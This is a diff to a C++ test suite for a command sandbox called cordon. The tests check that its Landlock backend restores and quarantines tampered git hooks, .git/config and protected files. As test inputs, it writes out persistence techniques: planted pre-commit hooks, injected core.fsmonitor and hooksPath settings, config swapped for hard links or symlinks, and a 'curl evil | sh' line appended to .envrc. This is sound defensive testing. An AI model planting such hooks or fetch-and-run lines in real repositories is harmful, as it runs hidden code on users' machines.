@@ -2,16 +2,21 @@
 // keeps of FS, NET and PROC without namespaces. make test runs this suite a second time with the
 // whole binary under tests/standin/no_userns (namespaces refused, as in a default Docker
 // container) and CORDON_TEST_LANDLOCK_SETTING=auto: the same tests, reached by the fallback.
+#include <dirent.h>
+#include <fcntl.h>
 #include <linux/landlock.h>
+#include <signal.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
-#include <dirent.h>
-
 #include <algorithm>
+#include <chrono>
 #include <cstdlib>
 #include <fstream>
 #include <iterator>
+#include <thread>
 
 #include "harness.h"
 #include "rpc_client.h"
@@ -237,9 +242,9 @@ TEST(LandlockBackend, EnvironmentIsStripped) {  // LL-1, ENV-1
   EXPECT_EQ(r.out, "key=none sandbox=1\n");
 }
 
-// Not built yet (issue 31): Landlock cannot keep .git/hooks and .git/config read-only while git
-// writes beside them, and aftercare does not compare their content. Enable once it does.
-TEST(LandlockBackend, DISABLED_PlantedGitHookAndConfigAreCaught) {  // LL-1, GIT-1, GIT-9
+// Issue 31: Landlock cannot keep .git/hooks and .git/config read-only while git writes beside
+// them; aftercare keeps their bytes and puts them back, and moves a planted hook aside.
+TEST(LandlockBackend, PlantedGitHookAndConfigAreCaught) {  // LL-1, GIT-1, GIT-9
   REQUIRE_LANDLOCK();
   LandlockWorld w;
   const std::string config = w.read(".git/config");
@@ -249,6 +254,247 @@ TEST(LandlockBackend, DISABLED_PlantedGitHookAndConfigAreCaught) {  // LL-1, GIT
   EXPECT_EQ(r.status, 0) << r.err;
   EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
   EXPECT_EQ(w.read(".git/config"), config);
+}
+
+// What the user's own git sees outside, after the command: the original config, and a commit
+// that runs no planted hook (the hook would leave `ran` beside the project).
+void expect_users_git_untouched(const LandlockWorld& w, const std::string& config) {
+  EXPECT_EQ(w.read(".git/config"), config);
+  Proc list = w.host({"git", "config", "--list", "--local"});
+  EXPECT_EQ(list.status, 0) << list.err;
+  EXPECT_EQ(list.out.find("fsmonitor"), std::string::npos) << list.out;
+  EXPECT_EQ(list.out.find("hookspath"), std::string::npos) << list.out;
+  Proc status = w.host({"git", "status", "--porcelain"});
+  EXPECT_EQ(status.status, 0) << status.err;
+  Proc commit = w.host({"git", "commit", "-q", "--allow-empty", "-m", "by the user"});
+  EXPECT_EQ(commit.status, 0) << commit.err;
+  EXPECT_FALSE(w.exists(w.root() + "/ran")) << "a planted hook ran on the user's commit";
+}
+
+std::string planted_hook(const LandlockWorld& w) {
+  return "#!/bin/sh\\ntouch " + w.root() + "/ran\\n";
+}
+
+// The result names each move (PROT-7): what moved, and where to.
+bool says_moved(const Proc& r, const std::string& what) {
+  return r.err.find(what) != std::string::npos &&
+         r.err.find(".cordon-quarantined-") != std::string::npos;
+}
+
+TEST(LandlockBackend, AppendToGitConfigIsMovedAsideAndPutBack) {  // LL-1, GIT-1, PROT-7
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string config = w.read(".git/config");
+  Proc r = w.sh(
+      "printf '[core]\\n\\tfsmonitor = \"touch " + w.root() +
+      "/ran\"\\n' >> .git/config && git config --local --list");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_NE(r.out.find("core.fsmonitor"), std::string::npos);  // the command saw its change
+  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
+  EXPECT_NE(r.err.find("put yours back"), std::string::npos) << r.err;
+  // The command's version is kept beside it, never deleted.
+  Proc found = w.host({"/bin/sh", "-c", "cat .git/config.cordon-quarantined-*"});
+  EXPECT_NE(found.out.find("fsmonitor"), std::string::npos) << found.out;
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, PlantedPreCommitHookIsMovedAsideAndNeverRuns) {  // LL-1, GIT-1, PROT-7
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string config = w.read(".git/config");
+  Proc r = w.sh("printf '" + planted_hook(w) +
+                "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
+  EXPECT_TRUE(says_moved(r, ".git/hooks/pre-commit")) << r.err;
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, TruncatedAndRewrittenHookIsPutBack) {  // LL-1, GIT-1, PROT-7
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string mine = "#!/bin/sh\necho own hook\n";
+  w.write(".git/hooks/pre-commit", mine, 0755);
+  const std::string config = w.read(".git/config");
+  // O_TRUNC keeps the inode: only the bytes tell.
+  Proc r = w.py("import os\nfd = os.open('.git/hooks/pre-commit', os.O_WRONLY | os.O_TRUNC)\n"
+                "os.write(fd, b'" + planted_hook(w) + "')\nos.close(fd)\n");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_EQ(w.read(".git/hooks/pre-commit"), mine);
+  struct stat st;
+  ASSERT_EQ(stat(w.abs(".git/hooks/pre-commit").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 0777, 0755u);
+  EXPECT_TRUE(says_moved(r, ".git/hooks/pre-commit")) << r.err;
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, RenamedHooksFolderWithAPlantedHookIsPutBack) {  // LL-1, GIT-1, GIT-9
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string mine = "#!/bin/sh\nexit 0\n";
+  w.write(".git/hooks/pre-push", mine, 0755);
+  const std::string config = w.read(".git/config");
+  // Renamed within .git, and carried out of it: both are put back.
+  for (const char* away : {".git/old-hooks", "carried-hooks"}) {
+    Proc r = w.sh(std::string("mv .git/hooks ") + away + " && mkdir .git/hooks && printf '" + planted_hook(w) +
+                  "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
+    EXPECT_EQ(r.status, 0) << r.err;
+    EXPECT_FALSE(w.exists(".git/hooks/pre-commit")) << away;
+    EXPECT_EQ(w.read(".git/hooks/pre-push"), mine) << away;
+    EXPECT_TRUE(says_moved(r, ".git/hooks")) << r.err;
+    expect_users_git_untouched(w, config);
+  }
+}
+
+TEST(LandlockBackend, RenamedGitFolderIsPutBack) {  // LL-1, GIT-1, GIT-9
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string config = w.read(".git/config");
+  Proc r = w.sh("mv .git .git-away && cp -a .git-away .git && printf '" + planted_hook(w) +
+                "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && "
+                "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_FALSE(w.exists(".git-away"));  // the user's .git is back in its place
+  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
+  EXPECT_TRUE(says_moved(r, ".git")) << r.err;
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, ConfigChangedThroughAHardLinkIsPutBack) {  // LL-1, GIT-1, GIT-9
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  w.write(w.home() + "/outside.txt", "outside\n");
+  const std::string config = w.read(".git/config");
+  Proc r = w.sh("ln .git/config linked-config && printf '[core]\\n\\tfsmonitor = x\\n' >> "
+                "linked-config");
+  EXPECT_EQ(r.status, 0) << r.err;
+  // Put back as a new file: the link the command holds is not the config any more.
+  struct stat config_st, link_st;
+  ASSERT_EQ(lstat(w.abs(".git/config").c_str(), &config_st), 0);
+  ASSERT_EQ(lstat(w.abs("linked-config").c_str(), &link_st), 0);
+  EXPECT_NE(config_st.st_ino, link_st.st_ino);
+  EXPECT_EQ(config_st.st_nlink, 1u);
+  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
+  EXPECT_EQ(w.read(w.home() + "/outside.txt"), "outside\n");
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, ConfigReplacedByALinkOutsideIsPutBack) {  // LL-1, GIT-1, GIT-6, FS-2
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  w.write(w.home() + "/outside.txt", "outside\n");
+  const std::string config = w.read(".git/config");
+  // To a file outside that exists, and to one that does not: neither is written by cordon.
+  for (const std::string& target : {w.home() + "/outside.txt", w.home() + "/not-made"}) {
+    Proc r = w.sh("rm .git/config && ln -s " + target + " .git/config");
+    EXPECT_EQ(r.status, 0) << r.err;
+    struct stat st;
+    ASSERT_EQ(lstat(w.abs(".git/config").c_str(), &st), 0);
+    EXPECT_TRUE(S_ISREG(st.st_mode)) << target;
+    EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
+    EXPECT_EQ(w.read(w.home() + "/outside.txt"), "outside\n");
+    EXPECT_FALSE(w.exists(w.home() + "/not-made"));
+    expect_users_git_untouched(w, config);
+  }
+}
+
+// git writes its index, objects, refs, COMMIT_EDITMSG and logs beside the guarded files: a
+// commit inside the sandbox works and nothing is moved aside.
+TEST(LandlockBackend, GitCommitWorksAndMovesNothingAside) {  // LL-1, GIT-1
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  w.write(".git/hooks/pre-push", "#!/bin/sh\nexit 0\n", 0755);
+  w.write(".envrc", "export A=1\n");
+  const std::string config = w.read(".git/config");
+  Proc r = w.sh("echo more >> README.md && git add README.md && git commit -q -m inside && "
+                "git log --oneline | wc -l");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_EQ(r.out, "2\n");
+  EXPECT_EQ(r.err.find("quarantined"), std::string::npos) << r.err;
+  EXPECT_EQ(r.err.find("put yours back"), std::string::npos) << r.err;
+  Proc log = w.host({"git", "log", "-1", "--format=%s"});
+  EXPECT_EQ(log.out, "inside\n");
+  EXPECT_EQ(w.read(".envrc"), "export A=1\n");
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, ChangedProtectedFileIsPutBack) {  // LL-1, PROT-2, PROT-7
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  w.write(".envrc", "export A=1\n");  // untracked: read-only under bubblewrap
+  Proc r = w.sh("echo 'curl evil | sh' >> .envrc");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_EQ(w.read(".envrc"), "export A=1\n");
+  EXPECT_TRUE(says_moved(r, ".envrc")) << r.err;
+}
+
+// PROT-1: .claude/worktrees stays writable inside a read-only .claude: a worktree's files are
+// the agent's work, neither moved aside nor put back.
+TEST(LandlockBackend, ClaudeWorktreesStayWritable) {  // LL-1, PROT-1
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  w.write(".claude/settings.json", "{}\n");
+  w.write(".claude/worktrees/wt/a.txt", "one\n");
+  Proc r = w.sh("echo two > .claude/worktrees/wt/a.txt && mkdir .claude/worktrees/wt2 && "
+                "echo new > .claude/worktrees/wt2/b.txt && echo '{\"x\":1}' > "
+                ".claude/settings.json");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_EQ(w.read(".claude/worktrees/wt/a.txt"), "two\n");
+  EXPECT_EQ(w.read(".claude/worktrees/wt2/b.txt"), "new\n");
+  EXPECT_EQ(w.read(".claude/settings.json"), "{}\n");  // the rest of .claude is put back
+  EXPECT_TRUE(says_moved(r, ".claude/settings.json")) << r.err;
+  EXPECT_EQ(r.err.find("worktrees/"), std::string::npos) << r.err;
+}
+
+// Starts `cordon ARGS` in the background, in the project, its output thrown away.
+pid_t spawn_cordon(const LandlockWorld& w, const std::vector<std::string>& args) {
+  std::vector<std::string> argv = {cordon_binary()};
+  argv.insert(argv.end(), args.begin(), args.end());
+  std::vector<std::string> envs;
+  for (const auto& [k, v] : w.env) envs.push_back(k + "=" + v);
+  pid_t pid = fork();
+  if (pid != 0) return pid;
+  std::vector<char*> a, e;
+  for (auto& x : argv) a.push_back(x.data());
+  a.push_back(nullptr);
+  for (auto& x : envs) e.push_back(x.data());
+  e.push_back(nullptr);
+  if (chdir(w.project().c_str()) != 0) _exit(121);
+  int devnull = open("/dev/null", O_RDWR);
+  dup2(devnull, 0);
+  dup2(devnull, 1);
+  dup2(devnull, 2);
+  execve(a[0], a.data(), e.data());
+  _exit(122);
+}
+
+bool wait_until(const std::function<bool()>& cond) {
+  for (int i = 0; i < 500 && !cond(); ++i)
+    std::this_thread::sleep_for(std::chrono::milliseconds(20));
+  return cond();
+}
+
+// The bytes are kept in the leftover record: a command whose cordon was killed has its changes
+// put back by the next command's sweep.
+TEST(LandlockBackend, AKilledCommandsChangeIsPutBackByTheSweep) {  // LL-1, GIT-1, SES-3
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string config = w.read(".git/config");
+  pid_t pid = spawn_cordon(
+      w, {"run", "--", "/bin/sh", "-c",
+          "printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config; touch started; "
+          "while [ ! -e go ]; do sleep 0.0331; done; touch ended"});
+  ASSERT_TRUE(wait_until([&] { return w.exists("started"); }));
+  kill(pid, SIGKILL);
+  waitpid(pid, nullptr, 0);
+  EXPECT_NE(w.read(".git/config"), config);
+  w.write("go", "");  // the command ends by itself
+  ASSERT_TRUE(wait_until([&] { return w.exists("ended"); }));
+  std::this_thread::sleep_for(std::chrono::milliseconds(300));
+  Proc r = w.sh("true");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
+  expect_users_git_untouched(w, config);
 }
 
 }  // namespace
